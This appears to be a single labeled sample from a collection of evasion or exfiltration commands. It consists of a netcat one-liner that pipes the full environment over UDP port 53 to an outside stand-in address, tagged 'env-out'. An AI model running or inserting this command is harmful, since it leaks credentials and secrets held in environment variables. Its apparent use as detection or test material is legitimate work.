# evasion: the environment sent over UDP with nc
# grade: easy; does: env-out
env | nc -u -w1 203.0.113.5 53
